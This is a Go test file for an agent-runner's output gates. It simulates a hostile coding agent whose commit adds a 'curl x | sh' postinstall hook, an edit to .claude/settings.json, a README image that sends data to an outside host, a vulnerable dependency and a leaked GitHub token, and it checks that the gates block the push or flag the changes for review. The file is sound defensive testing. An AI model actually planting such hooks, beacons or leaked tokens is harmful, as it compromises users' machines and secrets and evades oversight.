package runner

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-github/v66/github"
	"github.com/rs/zerolog"

	"github.com/bumperdev/bumper/action/evidence"
	"github.com/bumperdev/bumper/action/gates"
	"github.com/bumperdev/bumper/action/workspace"
	"github.com/bumperdev/bumper/app/wire"
	"github.com/bumperdev/bumper/ghemu"
	"github.com/bumperdev/bumper/ghemu/emutest"
	"github.com/bumperdev/bumper/ghemu/gitserver"
	"github.com/bumperdev/bumper/internal/repoconfig"
	"github.com/bumperdev/bumper/internal/testgate"
)

// hostRepo is a repository on the host read with the machine's git, as the workspace's.
type hostRepo struct{ dir string }

func (h hostRepo) Git(ctx context.Context, config []string, _ int64, args ...string) ([]byte, error) {
	for _, c := range config {
		args = append([]string{"-c", c}, args...)
	}
	cmd := exec.CommandContext(ctx, "git", args...)
	cmd.Dir = h.dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "HOME="+h.dir)
	return cmd.Output()
}

func (h hostRepo) run(t *testing.T, args ...string) string {
	t.Helper()
	out, err := h.Git(context.Background(), []string{"user.name=agent", "user.email=agent@example.test", "commit.gpgsign=false"}, 0, args...)
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			t.Fatalf("git %v: %v\n%s", args, err, ee.Stderr)
		}
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

// attackerWork is the issue's scripted agent's work: a postinstall hook, a dependency
// with a fixture advisory, an edit to .claude/settings.json and an image to an outside
// host in the README; with secret, a GitHub token in the code and in the decision
// ledger too. It returns the repository, the base and the head.
func attackerWork(t *testing.T, secret string) (hostRepo, string, string) {
	h := hostRepo{dir: t.TempDir()}
	write := func(files map[string]string) {
		for name, body := range files {
			p := filepath.Join(h.dir, name)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	h.run(t, "init", "-q", "-b", "main")
	write(map[string]string{"package.json": "{\n  \"name\": \"demo\",\n  \"scripts\": {\n    \"test\": \"node t.js\"\n  }\n}\n",
		"go.mod": "module example.com/demo\n\ngo 1.22\n", "README.md": "# Demo\n"})
	h.run(t, "add", "-A")
	h.run(t, "commit", "-q", "-m", "base")
	base := h.run(t, "rev-parse", "HEAD")
	write(map[string]string{
		"package.json":          "{\n  \"name\": \"demo\",\n  \"scripts\": {\n    \"test\": \"node t.js\",\n    \"postinstall\": \"curl x | sh\"\n  }\n}\n",
		"go.mod":                "module example.com/demo\n\ngo 1.22\n\nrequire golang.org/x/net v0.7.0\n",
		".claude/settings.json": "{\"hooks\": {}}\n",
		"README.md":             "# Demo\n\n![x](https://outside.example/?d=abc)\n",
	})
	if secret != "" {
		write(map[string]string{"src/config.js": "module.exports = {\n  token: '" + secret + "',\n}\n"})
	}
	h.run(t, "add", "-A")
	h.run(t, "commit", "-q", "-m", "Add the config")
	return h, base, h.run(t, "rev-parse", "HEAD")
}

// osvWithAdvisory is OSV's batch API with one fixture advisory: golang.org/x/net 0.7.0.
func osvWithAdvisory(t *testing.T) string {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Queries []struct {
				Package struct{ Name, Ecosystem string }
				Version string
			}
		}
		if r.URL.Path != "/v1/querybatch" || json.NewDecoder(r.Body).Decode(&req) != nil {
			http.Error(w, "bad request", http.StatusBadRequest)
			return
		}
		type vuln struct {
			ID string `json:"id"`
		}
		res := make([]map[string][]vuln, len(req.Queries))
		for i, q := range req.Queries {
			res[i] = map[string][]vuln{}
			if q.Package.Ecosystem == "Go" && q.Package.Name == "golang.org/x/net" && q.Version == "0.7.0" {
				res[i]["vulns"] = []vuln{{ID: "GO-2023-1571"}}
			}
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"results": res})
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestGatesBlockThePush attacks the push as the issue's scripted agent: with a GitHub
// token in its code and its decision ledger, the secrets gate blocks: the run fails
// saying which gate and where, the token masked; the work is in the artifact as a git
// bundle; the diff is not kept; and nothing Bumper writes (the reason, evidence.json,
// evidence.md) holds the token.
func TestGatesBlockThePush(t *testing.T) {
	testgate.Command(t, "git", "git")
	ctx := zerolog.Nop().WithContext(context.Background())
	tok := "ghp_" + strings.Repeat("Zq8", 12)
	h, base, head := attackerWork(t, tok)
	vmOut, out := t.TempDir(), t.TempDir()
	bundle := []byte("# v2 git bundle\n(the agent's work)\n")
	if err := os.WriteFile(filepath.Join(vmOut, workspace.BundleName), bundle, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(vmOut, "decisions.json"), []byte(`{"schema_version": 1, "decisions": [{"question": "Which token?", "choice": "`+tok+`", "confidence": 0.5}]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	// The agent printed the token too: its transcript, kept before the gates ran.
	transcript := filepath.Join(out, "agent", "transcript.jsonl")
	binary := filepath.Join(out, "agent", "output.bin")
	if err := os.MkdirAll(filepath.Dir(transcript), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(transcript, []byte(`{"type":"text","text":"wrote `+tok+` to config.js"}`+"\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(binary, []byte("\x00"+tok), 0o640); err != nil {
		t.Fatal(err)
	}
	var masked []string
	r := testRun(Config{WorkItem: wire.WorkItem{Repository: "acme/widgets", Issue: 1}, Stage: wire.StageImplement, Attempt: 1, Out: out,
		ServerURL: "https://github.com", OSVURL: osvWithAdvisory(t), Mask: func(s string) { masked = append(masked, s) }}, &grant{policy: repoconfig.Default()})
	err := r.rec.phase(ctx, evidence.PhaseGates, 0, func(ctx context.Context) (string, error) {
		_, d, err := r.gate(ctx, h, vmOut, base, head)
		return d, err
	})
	if got, _ := os.ReadFile(transcript); strings.Contains(string(got), tok[4:]) || !strings.Contains(string(got), "ghp_********") {
		t.Errorf("the agent's transcript in the artifact: %s", got)
	}
	if fi, err := os.Stat(transcript); err != nil || fi.Mode().Perm() != 0o640 {
		t.Errorf("the masked transcript's mode: %v %v", fi, err)
	}
	// A NUL byte does not make the agent's output a file to leave as it is.
	if got, _ := os.ReadFile(binary); strings.Contains(string(got), tok[4:]) {
		t.Errorf("a file with a NUL byte keeps the token: %q", got)
	}
	if !slices.Contains(masked, tok) {
		t.Errorf("the token was not masked in the job log (masked %d secrets)", len(masked))
	}
	outcome, reason := classify(err)
	if outcome != evidence.OutcomeFailure {
		t.Fatalf("outcome %s (%v), want failure", outcome, err)
	}
	for _, want := range []string{"the output gates block the push", "secrets at src/config.js:2: GitHub personal access token ghp_********",
		"secrets at decisions.json:1", "nothing was pushed", WorkBundleFile} {
		if !strings.Contains(reason, want) {
			t.Errorf("the reason %q does not say %q", reason, want)
		}
	}
	if got, err := os.ReadFile(filepath.Join(out, WorkBundleFile)); err != nil || string(got) != string(bundle) {
		t.Errorf("the artifact's %s: %q, %v; want the VM's bundle", WorkBundleFile, got, err)
	}
	if _, err := os.Stat(filepath.Join(out, DiffFile)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the artifact keeps %s, which quotes the token (%v)", DiffFile, err)
	}
	g := r.rec.ev.Gates
	if g == nil || len(g.Blocking()) != 2 || len(g.ForReview()) != 4 {
		t.Fatalf("the evidence's gates: %+v; want 2 blocking, 4 for review", g)
	}
	r.rec.ev.Outcome, r.rec.ev.OutcomeReason = outcome, reason
	_, _ = writeEvidence(ctx, r.rec)
	files, _ := os.ReadDir(out)
	for _, f := range files {
		data, _ := os.ReadFile(filepath.Join(out, f.Name()))
		if f.Type().IsRegular() && f.Name() != WorkBundleFile && strings.Contains(string(data), tok[4:]) {
			t.Errorf("%s holds the token", f.Name())
		}
	}
	if strings.Contains(reason, tok[4:]) {
		t.Error("the reason holds the token")
	}
}

// TestGatesReviewCheckRun: without the secret the work is not blocked, and bumper/gates
// on the pushed head fails, listing the four findings for a person; a clean head's
// passes. The check runs are read back from the emulator as a maintainer reads them.
func TestGatesReviewCheckRun(t *testing.T) {
	testgate.Command(t, "git", "git")
	ctx := zerolog.Nop().WithContext(context.Background())
	h, base, head := attackerWork(t, "")
	e := emutest.New(t, ghemu.Options{StateDir: t.TempDir()})
	owner, repo := ghemu.DefaultOrg, ghemu.DefaultRepo
	token := emutest.InstallationToken(t, e, owner, repo, map[string]string{"contents": "write", "checks": "write"})
	gh := github.NewClient(&http.Client{Timeout: 20 * time.Second}).WithAuthToken(token)
	gh.BaseURL, _ = url.Parse(e.BaseURL() + "/")
	refs, err := e.Git().Refs(ctx, owner, repo)
	if err != nil {
		t.Fatal(err)
	}
	pushed, err := e.Git().CommitFiles(ctx, owner, repo, "main", refs["refs/heads/main"], map[string][]byte{"a.txt": []byte("a\n")}, "pushed",
		gitserver.Signature{Name: "Bumper", Email: "bumper@example.test"})
	if err != nil {
		t.Fatal(err)
	}
	r := testRun(Config{WorkItem: wire.WorkItem{Repository: owner + "/" + repo, Issue: 1}, Stage: wire.StageImplement, Attempt: 1, Out: t.TempDir(),
		ServerURL: e.BaseURL(), OSVURL: osvWithAdvisory(t)}, &grant{policy: repoconfig.Default(), gh: gh})
	res, detail, err := r.gate(ctx, h, t.TempDir(), base, head)
	if err != nil {
		t.Fatalf("the gates blocked work with nothing to block: %v", err)
	}
	if !strings.Contains(detail, "4 for review") {
		t.Errorf("detail %q", detail)
	}
	if err := r.gatesCheckRun(ctx, pushed, res); err != nil {
		t.Fatal(err)
	}
	reader := github.NewClient(&http.Client{Timeout: 20 * time.Second}).WithAuthToken(e.UserToken(ghemu.DefaultMaintainer))
	reader.BaseURL = gh.BaseURL
	checks, _, err := reader.Checks.ListCheckRunsForRef(ctx, owner, repo, pushed, &github.ListCheckRunsOptions{CheckName: github.String(GatesCheckName)})
	if err != nil {
		t.Fatal(err)
	}
	if len(checks.CheckRuns) != 1 {
		t.Fatalf("%d %s check runs on the head", len(checks.CheckRuns), GatesCheckName)
	}
	c := checks.CheckRuns[0]
	if c.GetConclusion() != "failure" || !strings.Contains(c.GetOutput().GetTitle(), "4 finding(s) need a person") {
		t.Errorf("%s: %s, %q", GatesCheckName, c.GetConclusion(), c.GetOutput().GetTitle())
	}
	for _, want := range []string{"`.claude/settings.json`", "`package.json` line 5", "`README.md` line 3", "`go.mod` line 5", "GO-2023-1571"} {
		if !strings.Contains(c.GetOutput().GetSummary(), want) {
			t.Errorf("the summary does not name %s:\n%s", want, c.GetOutput().GetSummary())
		}
	}
	// A head with nothing for a person passes.
	if err := r.gatesCheckRun(ctx, refs["refs/heads/main"], &gates.Result{Findings: []gates.Finding{}, Dependencies: []gates.Dependency{}}); err != nil {
		t.Fatal(err)
	}
	checks, _, err = reader.Checks.ListCheckRunsForRef(ctx, owner, repo, refs["refs/heads/main"], &github.ListCheckRunsOptions{CheckName: github.String(GatesCheckName)})
	if err != nil || len(checks.CheckRuns) != 1 || checks.CheckRuns[0].GetConclusion() != "success" {
		t.Fatalf("a clean head's %s: %+v, %v", GatesCheckName, checks, err)
	}
	if s := checks.CheckRuns[0].GetOutput().GetSummary(); strings.Contains(s, "settings.json") || !strings.Contains(s, "No findings") {
		t.Errorf("a clean head's summary names another head's findings:\n%s", s)
	}
}

// TestGatesConfigActions: the repository's gates: key reaches the gates, and what it
// leaves out keeps the defaults (secrets block, the rest review).
func TestGatesConfigActions(t *testing.T) {
	for _, tt := range []struct {
		name string
		set  repoconfig.GateActions
		want map[gates.Gate]gates.Action
	}{
		{"defaults", repoconfig.GateActions{}, map[gates.Gate]gates.Action{gates.GateSecrets: gates.ActionBlock, gates.GateDependencies: gates.ActionReview, gates.GateLinks: gates.ActionReview}},
		{"advisories block", repoconfig.GateActions{Dependencies: ptr("block")}, map[gates.Gate]gates.Action{gates.GateSecrets: gates.ActionBlock, gates.GateDependencies: gates.ActionBlock, gates.GateLinks: gates.ActionReview}},
		{"links block, secrets for review", repoconfig.GateActions{Links: ptr("block"), Secrets: ptr("review")}, map[gates.Gate]gates.Action{gates.GateSecrets: gates.ActionReview, gates.GateDependencies: gates.ActionReview, gates.GateLinks: gates.ActionBlock}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := &run{grant: &grant{policy: repoconfig.Config{Gates: tt.set}}}
			cfg := r.gatesConfig()
			for g, want := range tt.want {
				if got := cfg.ActionOf(g); got != want {
					t.Errorf("%s: %s, want %s", g, got, want)
				}
			}
		})
	}
}

func ptr(s string) *string { return &s }

// TestGatesReadLockFilesWhole: an agent that bumps a pinned module only in go.sum, and
// a package only on package-lock.json's version line (its name on an unchanged line),
// does not get either past the dependencies gate: the runner gives the gate both lock
// files whole, at the base and the head.
func TestGatesReadLockFilesWhole(t *testing.T) {
	h := hostRepo{dir: t.TempDir()}
	write := func(name, body string) {
		if err := os.WriteFile(filepath.Join(h.dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	lock := func(v string) string {
		return "{\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"node_modules/lodash\": {\n      \"version\": \"" + v + "\"\n    }\n  }\n}\n"
	}
	h.run(t, "init", "-q", "-b", "main")
	write("go.sum", "golang.org/x/net v0.6.0 h1:a=\ngolang.org/x/net v0.6.0/go.mod h1:b=\n")
	write("package-lock.json", lock("4.17.14"))
	h.run(t, "add", "-A")
	h.run(t, "commit", "-q", "-m", "base")
	base := h.run(t, "rev-parse", "HEAD")
	write("go.sum", "golang.org/x/net v0.7.0 h1:c=\ngolang.org/x/net v0.7.0/go.mod h1:d=\n")
	write("package-lock.json", lock("4.17.15"))
	h.run(t, "commit", "-q", "-am", "Bump")
	head := h.run(t, "rev-parse", "HEAD")

	in, err := gateInput(t.Context(), h, t.TempDir(), base, head)
	if err != nil {
		t.Fatal(err)
	}
	if len(in.Locks) != 2 {
		t.Fatalf("locks %+v: want go.sum and package-lock.json", in.Locks)
	}
	res := gates.Check(t.Context(), in, gates.Config{OSVURL: osvWithAdvisory(t)})
	var got []string
	for _, d := range res.Dependencies {
		got = append(got, fmt.Sprintf("%s %s %s:%d", d.Name, d.Version, d.File, d.Line))
	}
	if want := []string{"golang.org/x/net v0.7.0 go.sum:1", "lodash 4.17.15 package-lock.json:4"}; strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("dependencies %q, want %q", got, want)
	}
	if f := res.ForReview(); len(f) != 1 || f[0].File != "go.sum" || !strings.Contains(f[0].Message, "GO-2023-1571") {
		t.Errorf("findings %+v: want the advisory on go.sum", res.Findings)
	}
}
